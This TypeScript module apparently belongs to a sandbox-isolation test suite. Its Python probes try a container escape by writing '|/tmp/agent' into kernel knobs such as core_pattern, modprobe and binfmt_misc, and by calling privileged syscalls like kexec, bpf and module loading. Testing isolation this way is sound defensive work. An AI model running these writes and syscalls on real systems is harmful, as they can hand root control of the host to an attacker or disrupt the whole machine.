// If this worked: a crash, a device or an unknown format would make the kernel start the attacker's program as root.
import type { Attack } from '../attack.ts';

const KNOBS = `
KNOBS = ['/proc/sys/kernel/core_pattern', '/proc/sys/kernel/modprobe', '/proc/sys/fs/binfmt_misc/register', '/sys/kernel/uevent_helper',
    '/proc/sys/kernel/hotplug', '/proc/sysrq-trigger', '/proc/sys/kernel/usermodehelper/bset', '/sys/kernel/mm/transparent_hugepage/enabled',
    '/proc/sys/vm/drop_caches', '/proc/sys/kernel/yama/ptrace_scope', '/proc/sys/kernel/randomize_va_space', '/sys/power/state',
    '/proc/irq/0/smp_affinity', '/proc/sys/net/ipv4/ip_forward', '/sys/kernel/security/apparmor/.load', '/proc/acpi/wakeup', '/dev/mem', '/dev/kmsg',
    '/dev/port', '/proc/kcore', '/dev/sda', '/dev/vda', '/dev/kvm', '/dev/fuse', '/dev/net/tun', '/dev/loop-control']
`;

export const attack: Attack = {
  programs: [
    {
      language: 'python',
      byEffect: true,
      control: 'root',
      // Opened for writing and closed again: with two of them, that much is harmless outside.
      code: (_field, place) => `${KNOBS}
for path in KNOBS[:2] if '${place}' == 'outside' else KNOBS:
    attempt('open ' + path, lambda: os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK)) or 'opened')
`,
    },
    {
      language: 'python',
      byEffect: true,
      control: 'It would change settings of the whole machine; that they can be opened for writing is shown above',
      code: () => `${KNOBS}
for path in KNOBS:
    attempt('write ' + path, lambda: write_text(path, '|/tmp/agent'))
for path in ('/proc/kallsyms', '/proc/modules'):
    attempt('addresses in ' + path, lambda: [line for line in open(path) if not line.split()[0 if 'kall' in path else -1].strip('0x') == '' and 'kall' in path][:1])
attempt('kernel log', lambda: syscall(103, 3, ctypes.create_string_buffer(4096), 4096))
attempt('host name', lambda: socket.sethostname('taken') or 'set')
attempt('clock', lambda: syscall(227, 0, struct.pack('<qq', 0, 0)))
attempt('module', lambda: syscall(175, b'x', 1, b''))
attempt('kexec', lambda: syscall(246, 0, 0, 0, 0))
attempt('bpf', lambda: syscall(321, 0, struct.pack('<IIII', 1, 4, 4, 1) + bytes(100), 116))
attempt('perf', lambda: syscall(298, struct.pack('<II', 1, 112) + bytes(104), 0, -1, -1, 0))
attempt('userfaultfd', lambda: syscall(323, 0))
attempt('swap', lambda: syscall(168, b'/tmp/none'))
`,
    },
  ],
};
